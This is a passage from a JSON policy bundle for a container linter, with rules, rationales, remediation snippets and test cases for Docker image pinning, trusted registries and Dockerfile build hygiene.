rules judge the reference as written. When it is a variable without a default (a Dockerfile `ARG` without a value, a workflow `${{ inputs.image }}` or `$IMAGE` in a script), whoever sets the variable chooses the image, and a reviewer of this file cannot see it. That is sometimes the point (a matrix over database versions), so the rule is informational: it marks the places the other image rules could not check.","remediation":"Give the variable a default that satisfies the image rules, so the file says what runs unless\\nsomeone deliberately overrides it:\\n\\n```dockerfile\\nARG BASE_IMAGE=python:3.12-slim@sha256:<digest>\\nFROM ${BASE_IMAGE}\\n```\\n\\n```yaml\\nservices:\\n  app:\\n    image: ${APP_IMAGE:-ghcr.io/example/app:1.4.2}\\n```","references":[{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#understand-how-arg-and-from-interact"},{"framework":"url","url":"https://docs.docker.com/compose/how-tos/environment-variables/variable-interpolation/"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"ARG BASE_IMAGE\\nFROM ${BASE_IMAGE}\\nRUN echo hi\\n","expect":[{"line":2,"column":6,"endLine":2,"endColumn":19}]},{"file":"Dockerfile","content":"ARG BASE_IMAGE=python:3.12-slim\\nFROM ${BASE_IMAGE}\\nRUN echo hi\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: ${{ inputs.image }}\\n    steps:\\n      - run: docker run --rm \\"$TOOL_IMAGE\\" --version\\n","expect":[{"line":5,"column":5},{"line":7,"column":14}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    steps:\\n      - uses: docker://alpine:3.20\\n      - run: docker run --rm ghcr.io/example/tool:1.2.0 --version\\n","expect":[]}],"source":"policies/docker/image-from-variable.yaml"},{"id":"image-latest-tag","pack":"docker","title":"Image uses the latest tag or no tag","severity":"medium","subject":"image","when":{"properties":{"isVariable":{"const":false}}},"schema":{"properties":{"isLatest":{"const":false}}},"message":"`{{subject.ref}}` has no tag or the `latest` tag, so every pull may bring a different image and nobody can tell from this file which one ran. Name a version tag, such as `nginx:1.27`, and preferably its digest too.","rationale":"`latest` is only a default name, not a promise of the newest or of any stable version, and a reference without a tag means `latest`. Builds and deployments that use it change behaviour without a change in the repository, cannot be reproduced or rolled back, and may silently pick up a broken or compromised image. Docker\'s build best practices ask to pin base image versions, and the CIS Docker Benchmark asks that the image version in use be known and kept current.","remediation":"Write the version you have tested; add the digest to make it immutable (and let Dependabot or\\nRenovate keep both current):\\n\\n```dockerfile\\nFROM node:22.11-bookworm-slim\\n```\\n\\n```yaml\\nservices:\\n  cache:\\n    image: redis:7.4.1\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.28"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#pin-base-image-versions"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx\\n  cache:\\n    image: \\"redis:latest\\"\\n  db:\\n    image: postgres:16\\n  app:\\n    image: ${APP_IMAGE:-ghcr.io/example/app}\\n","expect":[{"line":3,"column":5,"endLine":3,"endColumn":17},{"line":5,"column":5},{"line":9,"column":5}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\n  proxy:\\n    image: \\"${PROXY_IMAGE:-traefik:v3.1}\\"\\n  registry:\\n    image: localhost:5000/team/app:2.1.0\\n","expect":[]},{"file":"Dockerfile","content":"ARG BASE=python:latest\\nFROM golang AS build\\nRUN go build -o /out/app ./...\\n\\nFROM ${BASE}\\nCOPY --from=build /out/app /usr/local/bin/app\\n","expect":[{"line":2,"column":6,"endLine":2,"endColumn":12},{"line":5,"column":6}]},{"file":"Dockerfile","content":"ARG NODE_IMAGE\\nFROM node:22-bookworm-slim AS deps\\nRUN npm ci\\n\\nFROM deps AS test\\nRUN npm test\\n\\nFROM ${NODE_IMAGE}\\nCOPY --from=deps /app /app\\n\\nFROM scratch\\nCOPY --from=deps /app /app\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node\\n    services:\\n      redis:\\n        image: redis:latest\\n      db:\\n        image: ${{ matrix.db }}\\n    steps:\\n      - uses: docker://alpine\\n      - run: docker run --rm -v \\"$PWD:/src\\" hadolint/hadolint hadolint /src/Dockerfile\\n","expect":[{"line":5,"column":5,"endLine":5,"endColumn":20},{"line":8,"column":9},{"line":12,"column":9,"endLine":12,"endColumn":30},{"line":13,"column":14}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    steps:\\n      - uses: docker://alpine:3.20\\n      - run: |\\n          docker run --rm \\"${IMAGE}\\" true\\n          docker run --rm ghcr.io/example/tool:1.2.0 true\\n","expect":[]}],"source":"policies/docker/image-latest-tag.yaml"},{"id":"image-not-pinned-by-digest","pack":"docker","title":"Image is not pinned by digest","severity":"low","subject":"image","when":{"properties":{"isVariable":{"const":false}}},"schema":{"required":["digest"],"properties":{"digest":{"pattern":{"$param":"digest"}}}},"message":"`{{subject.ref}}` is not pinned by a full `@sha256:` digest, so the registry can serve different content under this name at any time and this file does not say which image actually runs. Append the digest, e.g. `nginx:1.27@sha256:<digest>`, and let Dependabot or Renovate keep it current.","rationale":"Tags are mutable pointers: a publisher (or anyone who takes over the publisher\'s account or registry) can push new content under an existing tag, and the next pull or build uses it without any change in the repository. A `@sha256:` digest names the exact content and is checked by Docker on pull, which makes builds reproducible and a swapped image detectable. Docker\'s build best practices and the OWASP cheat sheet\'s supply-chain guidance recommend pinning by digest; OpenSSF Scorecard checks it. The rule is low severity because it concerns nearly every image in a typical repository; raise it where the supply chain matters most.","remediation":"Keep the tag for readers and add the digest it currently resolves to\\n(`docker buildx imagetools inspect nginx:1.27` prints it):\\n\\n```dockerfile\\nFROM nginx:1.27@sha256:<64 hex digits>\\n```\\n\\n```yaml\\nservices:\\n  web:\\n    image: nginx:1.27@sha256:<64 hex digits>\\n```\\n\\nDependabot (`package-ecosystem: docker`) and Renovate update pinned digests through pull\\nrequests, so pinning does not mean falling behind on security fixes.","references":[{"framework":"owasp-docker","id":"RULE #13"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#pin-base-image-versions"}],"params":{"digest":"^sha256:[0-9a-f]{64}$"},"paramSchemas":{"digest":{"schema":{"type":"string","format":"regex","minLength":1},"description":"What a pinned digest looks like."}},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n  cache:\\n    image: redis@sha256:0123\\n  db:\\n    image: postgres:16@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\n  app:\\n    image: ${APP_IMAGE:-ghcr.io/example/app:1.4.2}\\n","expect":[{"line":3,"column":5,"endLine":3,"endColumn":22},{"line":5,"column":5},{"line":9,"column":5}]},{"file":"compose.yaml","content":"x-image: &image\\n  image: ghcr.io/example/app:1.4.2@sha256:89abcdef0123456789abcdef0123456789abcdef0123456789abcdef01234567\\nservices:\\n  app:\\n    <<: *image\\n  worker:\\n    <<: *image\\n    command: [\\"worker\\"]\\n","expect":[]},{"file":"Dockerfile","content":"ARG GO_VERSION=1.23\\nFROM golang:${GO_VERSION} AS build\\nRUN go build -o /out/app ./...\\n\\nFROM build AS test\\nRUN go test ./...\\n\\nFROM gcr.io/distroless/static-debian12@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\nCOPY --from=build /out/app /app\\n","expect":[{"line":2,"column":6,"endLine":2,"endColumn":26}]},{"file":"Dockerfile","content":"ARG BASE_IMAGE\\nFROM ${BASE_IMAGE} AS base\\nFROM base\\nFROM scratch\\nCOPY --from=base /etc/ssl/certs /etc/ssl/certs\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    services:\\n      db:\\n        image: ${{ matrix.db }}\\n    steps:\\n      - uses: docker://ghcr.io/example/linter:2.0.0\\n      - run: |\\n          docker run --rm ghcr.io/example/tool@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef true\\n          docker run --rm alpine:3.20 true\\n","expect":[{"line":6,"column":7,"endLine":6,"endColumn":21},{"line":11,"column":9},{"line":14,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\n    steps:\\n      - uses: docker://alpine:3.20@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\n      - run: docker run --rm \\"$IMAGE\\" true\\n","expect":[]}],"source":"policies/docker/image-not-pinned-by-digest.yaml"},{"id":"image-untrusted-registry","pack":"docker","title":"Image comes from a registry that is not on the trusted list","severity":"low","subject":"image","when":{"properties":{"isVariable":{"const":false}}},"schema":{"properties":{"registry":{"enum":{"$param":"trustedRegistries"}}}},"message":"`{{subject.ref}}` is pulled from `{{value}}`, which is not one of the registries this repository trusts, so nobody has agreed to run code from it. Use an image from a trusted registry or mirror, or add the registry to the `trustedRegistries` parameter after review.","rationale":"An image runs with whatever code its registry serves. A typo-squatted host, an abandoned personal registry or an unauthenticated internal mirror can serve a tampered image under a familiar name, and scanning and signing policies usually apply only to the registries an organisation controls. The CIS Docker Benchmark (4.2) asks that containers use only trusted base images. The `trustedRegistries` parameter lists the hosts accepted; the default accepts Docker Hub, GitHub\'s registry, the registries Microsoft, Google, Kubernetes, AWS, Chainguard and Elastic serve their own images from, and a local registry. Other community registries (quay.io, \u2026) are reported until a team adds them.","remediation":"Pull the image through a registry you trust (your own, or a mirror of the public one), or add\\nthe registry to the list in `.github/containment.yml`:\\n\\n```yaml\\nparams:\\n  image-untrusted-registry:\\n    trustedRegistries: [registry.example.com, ghcr.io]\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.2"},{"framework":"url","url":"https://docs.docker.com/docker-hub/image-library/trusted-content/"}],"params":{"trustedRegistries":["docker.io","ghcr.io","mcr.microsoft.com","gcr.io","registry.k8s.io","public.ecr.aws","cgr.dev","docker.elastic.co","localhost","localhost:5000"]},"paramSchemas":{"trustedRegistries":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Registry hosts (as Docker resolves them: `docker.io` for Docker Hub) images may be pulled from. The default is Docker Hub, GitHub\'s registry (where actions and this repository\'s own images usually live), and the registries that vendors serve their own images from; a local registry. Replace the list with your organisation\'s registries and mirrors."}},"tests":[{"file":"compose.yaml","content":"services:\\n  app:\\n    image: registry.example.net/team/app:1.4.2\\n  web:\\n    image: nginx:1.27\\n  cache:\\n    image: ghcr.io/example/cache:2.0.0\\n","expect":[{"line":3,"column":5,"endLine":3,"endColumn":47}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: docker.io/library/nginx:1.27\\n  tool:\\n    image: registry.k8s.io/pause:3.10\\n  local:\\n    image: localhost:5000/app:dev\\n","expect":[]},{"file":"Dockerfile","content":"FROM registry.example.net/base/python:3.12 AS build\\nRUN pip wheel -w /wheels .\\nFROM python:3.12-slim\\nCOPY --from=build /wheels /wheels\\n","expect":[{"line":1,"column":6,"endLine":1,"endColumn":43}]},{"file":"Dockerfile","content":"ARG REGISTRY\\nFROM ${REGISTRY}/base/python:3.12\\nFROM mcr.microsoft.com/dotnet/aspnet:8.0\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: registry.example.net/ci/node:22\\n    steps:\\n      - uses: docker://registry.example.net/tools/lint:1.0.0\\n      - run: docker run --rm ghcr.io/example/tool:1.2.0 true\\n","expect":[{"line":5,"column":5},{"line":7,"column":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    services:\\n      db:\\n        image: ${{ matrix.db }}\\n    steps:\\n      - uses: docker://ghcr.io/example/linter:2.0.0\\n","expect":[]}],"source":"policies/docker/image-untrusted-registry.yaml"}],"source":"policies/docker"},{"id":"dockerfile-hygiene","title":"Dockerfile build hygiene","description":"Docker\'s build best practices and build checks, and the CIS Docker Benchmark\'s image-build items that are about maintainability more than attack surface: package manager use, ADD versus COPY, WORKDIR, CMD and ENTRYPOINT form, deprecated instructions. Findings are low or informational; they make images smaller, reproducible and predictable rather than close a hole.","version":"0.1.0","rules":[{"id":"command-apt-install-recommends","pack":"dockerfile-hygiene","title":"apt installs recommended packages too","severity":"info","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"},"name":{"enum":["apt-get","apt"]},"args":{"contains":{"const":"install"}}}},"schema":{"properties":{"args":{"not":{"items":{"not":{"pattern":"^--no-install-recommends$|Install-Recommends=(false|0)$"}}}}}},"message":"`{{subject.name}} install` without `--no-install-recommends` also pulls in every package the ones you named merely recommend, adding size and attack surface nobody asked for. Add `--no-install-recommends` and name what you need.","rationale":"Debian and Ubuntu install \\"recommended\\" packages by default, which often doubles what an `apt-get install` brings in: documentation, optional helpers, sometimes daemons. Each is more to download, scan and patch. Docker\'s best practices and the CIS Docker Benchmark (4.3, no unnecessary packages) recommend installing only what the image needs.","remediation":"```dockerfile\\nRUN apt-get update \\\\\\n && apt-get install -y --no-install-recommends python3 ca-certificates \\\\\\n && rm -rf /var/lib/apt/lists/*\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.3"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get install -y python3 \\\\\\n && rm -rf /var/lib/apt/lists/*\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":49}]},{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get install -y --no-install-recommends python3 \\\\\\n && apt-get -o APT::Install-Recommends=false install -y git \\\\\\n && rm -rf /var/lib/apt/lists/*\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-apt-install-recommends.yaml"},{"id":"command-package-install-not-noninteractive","pack":"dockerfile-hygiene","title":"Package install would wait for a confirmation","severity":"low","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"allOf":[{"if":{"properties":{"name":{"enum":["apt-get","apt"]},"args":{"contains":{"enum":["install","upgrade","dist-upgrade","full-upgrade","remove","purge"]}}}},"then":{"$ref":"#/$defs/assumesYes"}},{"if":{"properties":{"name":{"enum":["yum","dnf","microdnf","tdnf"]},"args":{"contains":{"enum":["install","update","upgrade","remove","erase"]}}}},"then":{"$ref":"#/$defs/assumesYes"}},{"if":{"properties":{"name":{"const":"zypper"},"args":{"contains":{"enum":["install","in","update","up","remove","rm"]}}}},"then":{"properties":{"args":{"not":{"items":{"not":{"pattern":"^(-n|--non-interactive|-y|--no-confirm)$"}}}}}}}],"$defs":{"assumesYes":{"properties":{"args":{"not":{"items":{"not":{"pattern":"^(-[a-xzA-Z]*y[a-zA-Z]*|--yes|--assume-yes|-qq)$"}}}}}}}},"message":"`{{subject.name}}` is run without `-y`, so it stops to ask for confirmation, which a build cannot give: it aborts (or, with some tools, proceeds differently than expected). Add `-y` (zypper: `-n`).","rationale":"A Docker build has no terminal to answer prompts. Package managers that ask \\"Do you want to continue?\\" read end-of-file and abort the install, or the build only works while nothing new needs confirming and breaks later. Docker\'s best practices use `apt-get install -y`.","remediation":"```dockerfile\\nRUN apt-get update && apt-get install -y --no-install-recommends curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN dnf install -y git && dnf clean all\\n```","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM fedora:40\\nRUN dnf install git\\nRUN zypper install curl\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":20},{"line":3,"column":1}]},{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get -qy install --no-install-recommends git \\\\\\n && rm -rf /var/lib/apt/lists/*\\nFROM opensuse/leap:15.6\\nRUN zypper -n install curl\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-package-install-not-noninteractive.yaml"},{"id":"command-package-version-not-pinned","pack":"dockerfile-hygiene","title":"Package installed without a version","severity":"info","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"allOf":[{"if":{"properties":{"name":{"enum":["apt-get","apt"]},"args":{"contains":{"const":"install"}}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^[a-z0-9][a-z0-9.+-]*$","not":{"enum":["install"]}}}}}}},{"if":{"properties":{"name":{"const":"apk"},"args":{"contains":{"const":"add"}}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^[a-z0-9][a-z0-9.+_-]*$","not":{"enum":["add"]}}}}}}},{"if":{"properties":{"name":{"enum":["pip","pip3"]},"args":{"contains":{"const":"install"}}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^[A-Za-z0-9][A-Za-z0-9._-]*(\\\\[[A-Za-z0-9,._-]+\\\\])?$","not":{"anyOf":[{"enum":["install","pip","setuptools","wheel"]},{"pattern":"\\\\.(txt|in|whl|gz|zip|toml|cfg|py)$"}]}}}}}}},{"if":{"properties":{"name":{"enum":["npm","pnpm"]},"args":{"allOf":[{"contains":{"enum":["install","i","add"]}},{"contains":{"enum":["-g","--global"]}}]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^(@[a-z0-9][a-z0-9._~-]*/)?[a-z0-9][a-z0-9._~-]*$","not":{"enum":["install","i","add"]}}}}}}}]},"message":"`{{value}}` is installed without a version, so each build may get a different one, and a rebuild to fix one thing can silently change another. Pin it (`{{value}}=1.2.3` for apt and apk, `{{value}}==1.2.3` for pip, `{{value}}@1.2.3` for npm).","rationale":"An unpinned package resolves to whatever the mirror offers at build time. Builds stop being reproducible, a rebuild for an unrelated change can pull in a new major version or a compromised release, and nobody can tell from the Dockerfile which version an image contains. Docker\'s best practices recommend version pinning; it also lets Dependabot or Renovate propose updates. This is informational: some teams deliberately take the distribution\'s current security release and rely on scanning instead.","remediation":"```dockerfile\\nRUN apt-get update \\\\\\n && apt-get install -y --no-install-recommends curl=8.5.0-2ubuntu10.6 \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN pip install --no-cache-dir requests==2.32.3\\nRUN npm install -g typescript@5.6.3\\n```\\n\\nOr install from a lock file (`pip install -r requirements.txt` with hashes, `npm ci`).","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM python:3.12-slim\\nRUN apt-get update && apt-get install -y --no-install-recommends git curl=7.88.1-10+deb12u8 \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN pip install --no-cache-dir flask requests==2.32.3\\nRUN npm install -g typescript\\n","expect":[{"line":2,"column":1},{"line":4,"column":1},{"line":5,"column":1}]},{"file":"Dockerfile","content":"FROM alpine:3.20\\nRUN apk add --no-cache git=2.45.2-r0 \\"curl>8\\"\\nRUN pip install --no-cache-dir -r requirements.txt --upgrade pip\\nRUN npm install && npm install -g npm@10.9.0\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-package-version-not-pinned.yaml"},{"id":"command-run-cd","pack":"dockerfile-hygiene","title":"RUN changes directory with cd (use WORKDIR)","severity":"info","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"properties":{"name":{"not":{"const":"cd"}}}},"message":"`cd` in a RUN only lasts until the end of that RUN, so the next instruction silently runs somewhere else, and the Dockerfile is harder to follow. Use `WORKDIR /path` to change directory.","rationale":"Each RUN starts in the current WORKDIR; a `cd` changes directory for the rest of that one shell only. Chaining `cd` into long RUN lines hides where files are created and tempts later edits to assume the directory carried over. Docker\'s best practices recommend WORKDIR over `RUN cd \u2026 &&`. Informational: a `cd` into a temporary directory within one RUN is sometimes the clearest way.","remediation":"```dockerfile\\nWORKDIR /src/app\\nRUN make install\\n```","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#workdir"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM golang:1.23\\nCOPY . /src\\nRUN cd /src && go build -o /out/app ./cmd/app\\n","expect":[{"line":3,"column":1,"endLine":3,"endColumn":46}]},{"file":"Dockerfile","content":"FROM golang:1.23\\nWORKDIR /src\\nCOPY . .\\nRUN go build -o /out/app ./cmd/app\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-run-cd.yaml"},{"id":"command-sudo","pack":"dockerfile-hygiene","title":"sudo used in a Dockerfile RUN","severity":"low","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"properties":{"sudo":{"const":false},"name":{"not":{"const":"sudo"}}}},"message":"`sudo {{subject.name}}` in a Dockerfile: RUN already runs as the current USER, and sudo in the image gives every process that runs as that user a way to become root. Switch with `USER root` for the steps that need it and back to the unprivileged user afterwards.","rationale":"Build steps run as whatever USER is in effect, so sudo is never needed to build; keeping it in the image means it, and a sudoers entry, are present at run time, where they turn a compromise of the application user into root. sudo also has TTY and signal-forwarding behaviour that makes it unpredictable as PID 1. Docker\'s best practices advise against installing or using sudo in images.","remediation":"```dockerfile\\nUSER root\\nRUN apt-get update && apt-get install -y --no-install-recommends ca-certificates \\\\\\n && rm -rf /var/lib/apt/lists/*\\nUSER 10001\\n```\\n\\nIf something must switch user at run time, use `gosu` or `setpriv` in the entrypoint.","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#user"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nUSER ubuntu\\nRUN sudo apt-get update \\\\\\n && sudo -E apt-get install -y --no-install-recommends curl\\n","expect":[{"line":3,"column":1,"endLine":3,"endColumn":24},{"line":4,"column":2}]},{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nUSER root\\nRUN apt-get update && apt-get install -y --no-install-recommends curl\\nUSER ubuntu\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-sudo.yaml"},{"id":"dockerfile-add-instead-of-copy","pack":"dockerfile-hygiene","title":"ADD used to copy local files (use COPY)","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args"],"properties":{"keyword":{"const":"ADD"},"args":{"prefixItems":[{"not":{"pattern":{"$param":"specialSource"}}}]}}}}}}},"message":"This ADD in stage {{name}} copies local files; use COPY, which does only that, so nobody has to wonder whether a file will be fetched or unpacked. Write `COPY` with the same arguments.","rationale":"ADD does more than copy: it downloads URLs, clones Git repositories and unpacks local tar archives, and which of these happens depends on what the source turns out to be. COPY only copies, so the Dockerfile says exactly what it does. Docker\'s best practices and the CIS Docker Benchmark (4.9) recommend COPY for local files and ADD only for its special cases.","remediation":"```dockerfile\\nCOPY requirements.txt /app/\\nCOPY --chown=10001:10001 src/ /app/src/\\n```\\n\\nKeep ADD for unpacking a local archive (`ADD rootfs.tar.gz /`) or for a remote source with\\n`--checksum`.","references":[{"framework":"cis-docker","id":"1.6.0:4.9"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#add-or-copy"}],"params":{"specialSource":"^(https?://|git@|[a-z]+://)|\\\\.(tar|tar\\\\.gz|tgz|tar\\\\.bz2|tbz2?|tar\\\\.xz|txz|tar\\\\.zst)$"},"paramSchemas":{"specialSource":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A first source that ADD does something special with: a URL or Git reference (judged by dockerfile-add-url-without-checksum) or a local archive that ADD unpacks."}},"tests":[{"file":"Dockerfile","content":"FROM python:3.12-slim\\nADD requirements.txt /app/\\nADD --chown=10001 src/ /app/src/\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":27},{"line":3,"column":1}]},{"file":"Dockerfile","content":"FROM scratch\\nADD rootfs.tar.xz /\\nADD --checksum=sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef https://example.com/tool.tgz /tmp/\\nCOPY app /app\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-add-instead-of-copy.yaml"},{"id":"dockerfile-apt-lists-not-removed","pack":"dockerfile-hygiene","title":"apt package lists left in the image","severity":"info","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args","flags"],"properties":{"keyword":{"const":"RUN"},"args":{"allOf":[{"contains":{"enum":["apt-get","apt"]}},{"contains":{"const":"install"}},{"not":{"contains":{"pattern":"^/var/lib/apt/lists"}}}]},"flags":{"not":{"required":["mount"],"properties":{"mount":{"contains":{"pattern":"target=/var/(lib|cache)/apt"}}}}}}}}}}},"message":"This RUN in stage {{name}} installs with apt but leaves `/var/lib/apt/lists` in the layer, adding tens of megabytes of stale package index to the image. End the same RUN with `&& rm -rf /var/lib/apt/lists/*`, or use a cache mount.","rationale":"The package lists that `apt-get update` downloads are only needed while installing. Left in the layer, they make the image larger and record an index that is out of date by the time the image runs. Removing them in the same RUN keeps them out of every layer; deleting them in a later RUN does not. Docker\'s best practices show the pattern.","remediation":"```dockerfile\\nRUN apt-get update \\\\\\n && apt-get install -y --no-install-recommends curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\n```\\n\\nor, with BuildKit, keep the lists in a cache mount:\\n`RUN --mount=type=cache,target=/var/lib/apt,sharing=locked apt-get update && apt-get install -y curl`.","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get install -y --no-install-recommends curl\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":70}]},{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1\\nFROM debian:12\\nRUN apt-get update && apt-get install -y --no-install-recommends curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN --mount=type=cache,target=/var/lib/apt,sharing=locked \\\\\\n    apt-get update && apt-get install -y --no-install-recommends git\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-apt-lists-not-removed.yaml"},{"id":"dockerfile-apt-update-alone","pack":"dockerfile-hygiene","title":"Package index updated in a RUN of its own","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args"],"properties":{"keyword":{"const":"RUN"},"args":{"allOf":[{"contains":{"enum":["apt-get","apt","apk"]}},{"contains":{"const":"update"}},{"not":{"contains":{"enum":["install","upgrade","dist-upgrade","full-upgrade","add"]}}}]}}}}}}},"message":"This RUN in stage {{name}} updates the package index without installing anything, so the layer is cached and later builds install from a stale index (old versions, or 404s). Update and install in one RUN: `RUN apt-get update && apt-get install -y \u2026 && rm -rf /var/lib/apt/lists/*`.","rationale":"Docker caches each instruction\'s layer by its text. A RUN that only runs `apt-get update` is reused as is on every later build, so an `apt-get install` in a following RUN works from whatever index was fetched the first time: it misses security updates or fails on packages the mirror has since removed. Docker\'s best practices and the CIS Docker Benchmark (4.7) ask that update instructions not be used alone.","remediation":"```dockerfile\\nRUN apt-get update \\\\\\n && apt-get install -y --no-install-recommends ca-certificates curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.7"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update\\nRUN apt-get install -y --no-install-recommends curl\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":19}]},{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get install -y --no-install-recommends curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\nFROM alpine:3.20\\nRUN apk update && apk add git\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-apt-update-alone.yaml"},{"id":"dockerfile-maintainer-deprecated","pack":"dockerfile-hygiene","title":"MAINTAINER instruction is deprecated","severity":"info","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"properties":{"keyword":{"not":{"const":"MAINTAINER"}}}}}}},"message":"MAINTAINER is deprecated and may be removed from Docker. Write the author as a label instead: `LABEL org.opencontainers.image.authors=\\"team@example.com\\"`.","rationale":"The MAINTAINER instruction has been deprecated since Docker 1.13 in favour of labels, which tools read in a standard way (the OCI `org.opencontainers.image.authors` annotation). BuildKit\'s MaintainerDeprecated check reports it.","remediation":"```dockerfile\\nLABEL org.opencontainers.image.authors=\\"platform-team@example.com\\"\\n```","references":[{"framework":"docker-build-check","id":"MaintainerDeprecated"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/maintainer-deprecated/"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM alpine:3.20\\nMAINTAINER Jane Doe <jane@example.com>\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":11}]},{"file":"Dockerfile","content":"FROM alpine:3.20\\nLABEL org.opencontainers.image.authors=\\"jane@example.com\\"\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-maintainer-deprecated.yaml"},{"id":"dockerfile-multiple-cmd-entrypoint","pack":"dockerfile-hygiene","title":"Stage has more than one CMD, ENTRYPOINT or HEALTHCHECK","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"allOf":[{"not":{"contains":{"required":["keyword"],"properties":{"keyword":{"const":"CMD"}}},"minContains":2}},{"not":{"contains":{"required":["keyword"],"properties":{"keyword":{"const":"ENTRYPOINT"}}},"minContains":2}},{"not":{"contains":{"required":["keyword"],"properties":{"keyword":{"const":"HEALTHCHECK"}}},"minContains":2}}]}}},"message":"Stage {{name}} has more than one 